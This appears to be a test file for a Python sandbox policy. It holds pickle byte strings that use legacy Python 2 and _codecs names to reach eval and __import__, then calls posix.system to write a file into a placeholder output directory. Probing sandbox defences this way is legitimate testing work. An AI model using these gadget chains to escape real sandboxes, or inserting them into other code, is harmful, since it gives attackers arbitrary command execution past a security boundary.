# technique: pickle's names of Python 2 and _codecs lead to what no policy grants
# goal: exec-command
# source: Lib/_compat_pickle.py, Lib/pickle.py
# policy: imports pickle = *
import pickle

for data in (b"c__builtin__\neval\n", b"c__builtin__\nexecfile\n",
             b"c__builtin__\n__import__\n", b"cexceptions\n__import__\n",
             b"cexceptions\neval\n", b"c_codecs\nlookup\n", b"c_codecs\nopen\n",
             b"\x80\x04\x8c\x07_codecs\x8c\x0fencode.__self__\x93",
             b"\x80\x04\x8c\x08builtins\x8c\x0clen.__self__\x93"):
    try:
        thing = pickle.loads(data + b".")
    except Exception:
        continue
    for run in (lambda: thing("__import__('posix').system('echo x > @OUT@/file')"),
                lambda: thing("posix").system("echo x > @OUT@/file"),
                lambda: thing.eval("__import__('posix').system('echo x > @OUT@/file')"),
                lambda: thing.lookup("utf8").incrementaldecoder.__init__.__globals__["codecs"].builtins.eval("__import__('posix').system('echo x > @OUT@/file')")):
        try:
            run()
        except Exception:
            pass
